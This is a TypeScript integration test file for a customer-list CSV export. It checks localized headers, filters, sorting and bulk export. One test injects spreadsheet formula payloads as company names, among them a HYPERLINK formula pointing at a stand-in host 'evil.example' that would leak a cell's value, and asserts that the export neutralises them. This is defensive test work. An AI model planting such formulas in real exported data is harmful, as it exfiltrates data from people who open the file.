import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demo, signedIn, type Api } from '../support/client.js';
import { aCustomer } from '../support/customers.js';
import { send, signInCookie } from '../support/raw-http.js';
import { openSql, type Sql } from '../support/sql.js';
import { startStack, type Stack } from '../support/stack.js';
import { manyCustomers } from './many-customers.js';

let stack: Stack;
let rita: Api;
let sql: Sql;
let cookie: string;
beforeAll(async () => {
  stack = await startStack({ worker: false });
  rita = await signedIn(stack.url, 'rita');
  sql = await openSql(stack.settings.DATABASE_URL);
  cookie = await signInCookie(stack.url, demo('rita').loginName, demo('rita').password);
});
afterAll(async () => {
  await sql.end();
  await stack.stop();
});

const exported = async (query = '') => {
  const answer = await send(`${stack.url}/export/customers.csv${query}`, { headers: { cookie } });
  expect(answer.status).toBe(200);
  const { data, errors } = Papa.parse<string[]>(answer.text.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
  expect(errors).toEqual([]);
  return { head: data[0]!, rows: data.slice(1), text: answer.text, headers: answer.headers };
};

describe('the export of the customer list', () => {
  it('is a file for spreadsheets, in the user’s language', async () => {
    const english = await exported();
    expect(english.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(english.headers.get('content-disposition')).toBe('attachment; filename=customers.csv');
    const bytes = await (await fetch(`${stack.url}/export/customers.csv`, { headers: { cookie } })).arrayBuffer();
    expect([...new Uint8Array(bytes.slice(0, 3))]).toEqual([0xef, 0xbb, 0xbf]);
    expect(english.head).toEqual(['Company', 'Account name', 'City', 'Contact', 'E-mail', 'State', 'Channel', 'Services', 'Created']);
    await rita.auth.setLanguage.mutate({ language: 'it' });
    const italian = await exported();
    expect(italian.headers.get('content-disposition')).toContain('clienti.csv');
    expect(italian.head[0]).toBe('Azienda');
    expect(italian.rows[0]).toContain('Attivo');
    await rita.auth.setLanguage.mutate({ language: 'en' });
  });

  it('holds no cell that a spreadsheet would run, and every cell as it was written otherwise', async () => {
    const formulas = ['=1+1', '+39 011', '-2+3', '@SUM(A1)', '=HYPERLINK("evil.example?"&A1,"x")', '＝1+1'];
    for (const company of formulas) await rita.customers.create.mutate(aCustomer({ company, city: 'Reggio, "nell’Emilia"; RE' }));
    const { rows } = await exported('?sort=created&direction=asc');
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^\s*[=+\-@＝＋－＠]/u);
    for (const formula of formulas) expect(rows.find((row) => row[0] === `'${formula}`)?.[2]).toBe('Reggio, "nell’Emilia"; RE');
  });

  it('follows the filters and the order of the page', async () => {
    const disabled = await rita.customers.create.mutate(aCustomer({ company: 'Zeta Ferma' }));
    await rita.customers.disable.mutate({ id: disabled.customerId, reason: 'a test' });
    const deleted = await rita.customers.create.mutate(aCustomer({ company: 'Zeta Andata' }));
    await rita.customers.delete.mutate({ id: deleted.customerId, reason: 'a test' });
    await rita.customers.create.mutate(aCustomer({ company: 'Zeta Attiva' }));
    const companies = async (query: string) => (await exported(query)).rows.map(([company]) => company);
    expect(await companies('?q=zeta&sort=company&direction=asc')).toEqual(['Zeta Attiva', 'Zeta Ferma']);
    expect(await companies('?q=zeta&sort=company&direction=desc')).toEqual(['Zeta Ferma', 'Zeta Attiva']);
    expect(await companies('?q=zeta&state=disabled')).toEqual(['Zeta Ferma']);
    expect(await companies('?q=zeta&state=disabled,deleted&sort=company&direction=asc')).toEqual(['Zeta Andata', 'Zeta Ferma']);
    expect(await companies('?q=nothing-like-this')).toEqual([]);
  });

  it('holds each of many customers once', async () => {
    const names = await manyCustomers(sql, 650, 'Export');
    const { rows } = await exported('?q=export');
    expect(rows.map(([company]) => company).sort()).toEqual([...names].sort());
  });
});
